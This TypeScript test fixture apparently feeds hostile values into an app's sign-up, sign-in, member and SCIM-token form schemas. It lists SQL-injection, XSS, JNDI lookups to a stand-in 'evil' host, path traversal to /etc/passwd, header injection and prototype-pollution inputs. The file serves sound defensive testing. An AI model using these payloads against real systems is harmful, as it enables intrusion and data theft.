import type { z } from 'zod';
import { addMemberSchema, memberIdSchema } from '@/lib/validation/member';
import { emailSchema, orgSlugSchema, passwordSchema, signInSchema, signUpSchema } from '@/lib/validation/sign-up';
import { createScimTokenFormSchema, createScimTokenSchema, tokenIdSchema } from '@/lib/validation/token';

/**
 * Hostile values for every form field (issue 6: "every form"). Server actions read
 * `Object.fromEntries(formData)`, so a field may also be a File, missing, or anything a
 * hand-made POST sends.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(101),
  'a'.repeat(10_000),
  'a'.repeat(1_000_000),
  '\u0000',
  'a\u0000b',
  '\u202eevil\u202c',
  '\u200b',
  '\u200d',
  '\ufeff',
  '👩‍👩‍👧‍👦',
  'z̷̧̛a̶l̸g̵o̵',
  '\ud800',
  'x\udfff',
  "' or '1'='1",
  '"; drop table accounts; --',
  "Robert'); DROP TABLE members;--",
  '1; select pg_sleep(10)',
  '$1',
  '__proto__',
  'constructor',
  'prototype',
  '{"__proto__":{"admin":true}}',
  'toString',
  'hasOwnProperty',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '%s%n%x',
  '../../etc/passwd',
  '..\\..\\windows',
  'file:///etc/passwd',
  '\r\nSet-Cookie: x=1',
  'a\rb',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9'.repeat(400),
  '0x10',
  ' 42 ',
  '3.5',
  'admin@example.com\u0000evil.com',
  'a@b',
  '@example.com',
  'a@',
  'a@@b.com',
  'a b@c.com',
  '"quoted"@example.com',
  'x@[127.0.0.1]',
  `${'l'.repeat(250)}@example.com`,
  'ＡＢＣ',
  'İstanbul',
  'ß',
  'owner',
  'OWNER',
  'scim:manage ',
  'SCIM:MANAGE',
  'scim:*',
  '-acme-',
  'a--b',
];

const file = () => new File(['not a string'], 'upload.txt', { type: 'text/plain' });

export const HOSTILE_VALUES: readonly unknown[] = [
  ...HOSTILE_STRINGS,
  null,
  undefined,
  42,
  -0,
  Number.NaN,
  true,
  [],
  ['a', 'b'],
  {},
  file(),
  JSON.parse('{"__proto__":{"admin":true}}'),
  Object.create(null),
  10n,
];

/** Objects that are not a form at all. */
export const HOSTILE_FORMS: readonly unknown[] = [
  null,
  undefined,
  'name=x',
  42,
  [],
  [['name', 'x']],
  JSON.parse('{"__proto__":{"name":"x"}}'),
  Object.create(null),
  new Map([['name', 'x']]),
];

type AnySchema = z.ZodType;

/** Each form schema with a valid input to spoil one field at a time. */
export const FORM_SCHEMAS: readonly { name: string; schema: AnySchema; valid: Record<string, unknown> }[] = [
  {
    name: 'signUp',
    schema: signUpSchema,
    valid: { orgName: 'Acme', slug: 'acme-1', givenName: 'Ada', familyName: 'Lovelace', email: 'ada@example.test', password: 'correct horse battery' },
  },
  { name: 'signIn', schema: signInSchema, valid: { email: 'ada@example.test', password: 'correct horse battery' } },
  { name: 'addMember', schema: addMemberSchema, valid: { givenName: 'Grace', familyName: 'Hopper', email: 'grace@example.test', role: 'member' } },
  { name: 'createScimTokenForm', schema: createScimTokenFormSchema, valid: { name: 'Entra', expiresInDays: '30', scope: 'scim:manage' } },
  { name: 'createScimToken', schema: createScimTokenSchema, valid: { name: 'Entra', expiresInDays: 30 } },
];

/** Single-value schemas: ids in hidden inputs, and the parts sign-up is built from. */
export const VALUE_SCHEMAS: readonly { name: string; schema: AnySchema }[] = [
  { name: 'memberId', schema: memberIdSchema },
  { name: 'tokenId', schema: tokenIdSchema },
  { name: 'orgSlug', schema: orgSlugSchema },
  { name: 'email', schema: emailSchema },
  { name: 'password', schema: passwordSchema },
];

/**
 * Values the forms accept that are nasty anyway: they must be stored and read back exactly
 * (after the schema's own trim / lower-casing).
 */
export const NASTY_BUT_VALID_NAMES: readonly string[] = [
  "Robert'); DROP TABLE members;--",
  'O\'Brien "Bob"',
  '\u202eevil\u202c',
  '👩‍👩‍👧‍👦 family',
  'z̷̧̛a̶l̸g̵o̵',
  '名前 テスト',
  '\\back\\slash\\',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '%s%n%x %_',
  'tab\tname',
  '__proto__',
];

/** Accepted by the schemas but not storable today: known bug formNul (see form-inputs.test.ts). */
export const UNSTORABLE_NAMES: readonly string[] = ['a\u0000b', 'x\ud800y'];
